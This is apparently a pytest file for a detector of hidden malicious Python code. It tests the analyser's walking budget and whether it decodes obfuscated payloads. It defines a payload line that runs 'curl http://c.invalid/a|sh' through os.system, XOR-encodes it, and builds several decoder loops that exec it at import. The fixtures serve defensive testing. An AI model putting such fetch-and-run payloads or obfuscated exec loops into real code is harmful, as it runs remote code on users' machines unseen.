"""What is walked in vain is walked briefly: loops in which nothing changes, tables of thousands, trees that were read before."""

import pytest
from source_lab import the

from beartrap.vet.behaviour import When
from beartrap.vet.source import walk as walking
from beartrap.vet.source.machine import Machine
from beartrap.vet.source.values import Value, signature
from beartrap.vet.source.walk import machine_for, parse, walk
from beartrap.vet.source_files import Alone

PAYLOAD = "__import__('os').system('curl http://c.invalid/a|sh')"
HIDDEN = [ord(sign) ^ 7 for sign in PAYLOAD]


def walked(text: str, language: str = "python") -> tuple[Machine, int]:
    """Walk a file by itself; return the machine, and what it had to spend on code that is walked as it would run."""
    machine = machine_for("a.py", language, text, When.IMPORT, Alone())
    before = machine.spare
    walk(parse(language, text), machine)
    return machine, before


@pytest.mark.parametrize(
    "text",
    [
        "class A:\n    async def listen(self):\n        while True:\n            yield await self.next()\n",
        "def listen(q):\n    while True:\n        one = q.get()\n        print(one)\n",
        "class A:\n    on = True\n    def run(self):\n        while self.on:\n            self.step(1)\n",
        "T = {i: f'{i:x}'.encode('latin-1') for i in range(16384)}\n",
    ],
)
def test_what_gives_nothing_new_is_left(text):
    machine, before = walked(text)
    assert before - machine.spare < before // 20


@pytest.mark.parametrize(
    "text",
    [
        f"d = {HIDDEN}\no = ''\ni = 0\nwhile True:\n    if i >= len(d):\n        break\n    o += chr(d[i] ^ 7)\n    i += 1\nexec(o)\n",
        f"d = {HIDDEN}\no = []\nwhile True:\n    if not d:\n        break\n    o.append(chr(d.pop() ^ 7))\nexec(''.join(o)[::-1])\n",
        f"class A:\n    at = 0\na = A()\nd = {HIDDEN}\no = ''\nwhile True:\n    if a.at == len(d):\n        break\n    o += chr(d[a.at] ^ 7)\n    a.at += 1\nexec(o)\n",
        f"t = {{i: chr(i ^ 7) for i in range(256)}}\nexec(''.join([t[i] for i in {HIDDEN}]))\n",
    ],
)
def test_a_decoder_in_a_loop_without_an_end_is_still_undone(text):
    assert the("a.py", text, "hidden.code")
    assert the("a.py", text, "process.piped").when is When.IMPORT


def test_a_text_is_read_once_as_long_as_its_tree_is_kept(monkeypatch):
    monkeypatch.setattr(walking, "KEPT", 100)
    first = parse("python", "a = 1\n")
    assert parse("python", "a = 1\n") is first
    parse("python", "b = 1\n" * 20)
    assert parse("python", "a = 1\n") is not first


def test_a_function_is_walked_with_bytes_that_change():
    text = f"def f(b):\n    return bytes(b).decode()\nd = bytearray({[ord(sign) for sign in PAYLOAD]})\nfor i in range(3):\n    f(d)\nexec(f(d))\n"
    assert the("a.py", text, "process.piped").when is When.IMPORT


def test_a_list_of_which_nothing_can_be_told_is_walked_in_part():
    text = "def f(a, b):\n    if b > LIMIT:\n        return a + b\n    return f(a, b - 1)\nT = [f(x, 5) for x in range(9000)]\n"
    machine, before = walked(text)
    assert before - machine.spare < before // 20


def test_a_table_that_is_gone_is_not_taken_for_the_next_in_its_place() -> None:
    signs = list[object]()
    for _ in range(50):
        table = Value()
        table.fields = {"key": Value("word")}
        signs.append(signature(table))
        del table
    assert len(set(signs)) == 50
    assert signature(Value("word")) == signature(Value("word"))
